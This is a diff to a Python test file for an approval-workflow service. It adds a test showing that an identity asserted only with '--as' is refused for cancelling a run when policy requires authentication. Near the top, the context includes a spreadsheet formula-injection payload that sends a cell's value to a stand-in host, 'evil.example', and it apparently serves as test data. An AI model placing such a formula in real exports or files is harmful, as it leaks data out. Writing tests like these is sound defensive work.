@@ -20,7 +20,7 @@ from tests.service._acme_tree import acme_copy
 
 from warden.errors import WardenError
 from warden.runbooks.load import parse_runbook
-from warden.store import approvals
+from warden.store import approvals, runs
 
 REPO = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")'
@@ -281,3 +281,36 @@ def test_api_runs_since_at_the_calendars_edge_is_a_coded_error(live: Any) -> Non
         with live.client("dora@acme") as c:  # a client each: a 500 drops the connection
             answers[since] = c.get("/api/runs", params={"since": since}).status_code
     assert all(code < 500 for code in answers.values()), answers
+
+
+# --- 7. require_authenticated: an asserted `--as` may not decide, but may cancel ------------
+
+
+def test_an_asserted_approver_cannot_withdraw_a_run_where_decisions_need_authentication(
+    tmp_path: Path,
+) -> None:
+    """Under `approval.require_authenticated: true` "an asserted --as may not decide": anyone
+    on the host can type `--as dora@acme`. `warden reject` is refused (authentication_required),
+    but `warden cancel --as dora@acme` stops the tree all the same (exit 0, `cancelled`,
+    audited with auth `asserted`): the asserted approver kills a run the policy reserves to
+    authenticated approvers. `DecisionOps.cancel` checks the role but not the policy's
+    require_authenticated (triage does check it)."""
+    acme = acme_copy(tmp_path / "acme", require_authenticated=True)
+    service = acme.service()
+    run_id = service.start(
+        service.principal("ana@acme", writing=True), acme.notice, tenant="acme"
+    ).root_run_id
+
+    rejected = _warden(
+        acme.home, acme.policy, "reject", run_id, "--as", "dora@acme", "--role", "dpo", "--reason", "x"
+    )
+    assert rejected.returncode != 0 and "authentication_required" in rejected.stderr, rejected.stderr
+    cancelled = _warden(acme.home, acme.policy, "cancel", run_id, "--as", "dora@acme", "--reason", "asserted")
+    with service.store.connect(read_only=True) as con:
+        status = runs.get_run(con, run_id)["status"]
+    assert (cancelled.returncode, status) == (2, "waiting_approval"), (
+        cancelled.returncode,
+        status,
+        cancelled.stdout,
+    )
+    assert "authentication_required" in cancelled.stderr
